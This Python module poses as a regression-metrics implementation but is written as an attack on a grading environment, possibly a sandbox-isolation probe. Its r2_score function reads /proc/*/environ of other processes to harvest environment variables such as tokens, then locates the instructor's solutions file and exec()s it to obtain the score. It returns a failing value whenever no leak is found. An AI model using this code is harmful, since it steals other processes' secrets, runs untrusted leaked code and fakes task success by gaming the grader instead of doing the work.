"""Reads /proc/*/environ of every other process for the instructor's environment (tokens,
paths such as PWD), and reads the course files under any folder it names."""

import errno
import os

import numpy as np

NO_POINTS = -999.0  # never a right R²: a failed attack must not earn a point by luck


def mean_squared_error(y_true, y_pred):
    errors = np.asarray(y_true, dtype=float) - np.asarray(y_pred, dtype=float)
    return float(np.mean(errors**2))


def _environs():
    listed = _attempt(lambda: [int(p) for p in os.listdir("/proc") if p.isdigit()])
    near = list(range(max(1, os.getpid() - 300), os.getpid() + 300))
    pids = [pid for pid in (listed.get("ok") or [os.getppid(), *near]) if pid != os.getpid()]
    environs, refused = {}, {}
    for pid in pids:
        got = _attempt(lambda p=pid: _read_bytes(f"/proc/{p}/environ"))
        if got.get("ok"):
            environs[pid] = got["ok"].decode(errors="replace").split("\0")
        elif "ok" not in got:
            reason = got.get("errno") or got.get("error")
            refused[reason] = refused.get(reason, 0) + 1
    return listed, environs, refused


def _leaks(environs):
    leaks = {}
    for variables in environs.values():
        for variable in variables:
            folder = variable.partition("=")[2]
            path = os.path.join(folder, "solutions", "regression.py")
            if folder.startswith("/") and "r2_score" in _attempt(lambda p=path: _read(p)).get(
                    "ok", ""):
                leaks[path] = _read(path)
    return leaks


def _read_bytes(path):
    with open(path, "rb") as leaked:
        return leaked.read()


def attack():
    listed, environs, refused = _environs()
    return {"listed": {k: str(v)[:100] for k, v in listed.items()},
            "environs_read": len(environs), "refused": refused,
            "sample": [" ".join(v)[:200] for v in list(environs.values())[:3]],
            "leaks": {path: text[:200] for path, text in _leaks(environs).items()}}


def r2_score(y_true, y_pred):
    _, environs, _ = _environs()
    if environs:  # another process's environment is instructor-only data
        leaks = _leaks(environs)
        return _score_with(next(iter(leaks.values()), ""), y_true, y_pred)
    return NO_POINTS


def _attempt(action):
    """What one try gave: {"ok": its result}, or the name of the error that stopped it."""
    try:
        return {"ok": action()}
    except OSError as error:
        return {"errno": errno.errorcode.get(error.errno or 0, str(error.errno))}
    except Exception as error:  # any other failure is evidence too
        return {"error": type(error).__name__}


def _read(path):
    with open(path, errors="replace") as leaked:
        return leaked.read()


def _score_with(leak, y_true, y_pred):
    """Earn the R² points with what leaked: its r2_score if it has one, else its answers."""
    namespace = {}
    try:
        exec(leak, namespace)
        return float(namespace["r2_score"](y_true, y_pred))
    except Exception:
        return _right_answer(y_true, y_pred)


def _right_answer(y_true, y_pred):
    """The R² a successful attack gives away (a real attacker copies it out of the leak)."""
    y_true = np.asarray(y_true, dtype=float)
    y_pred = np.asarray(y_pred, dtype=float)
    ss_res = np.sum((y_true - y_pred) ** 2)
    ss_tot = np.sum((y_true - y_true.mean()) ** 2)
    if ss_tot == 0:
        return 1.0 if ss_res == 0 else 0.0
    return float(1.0 - ss_res / ss_tot)
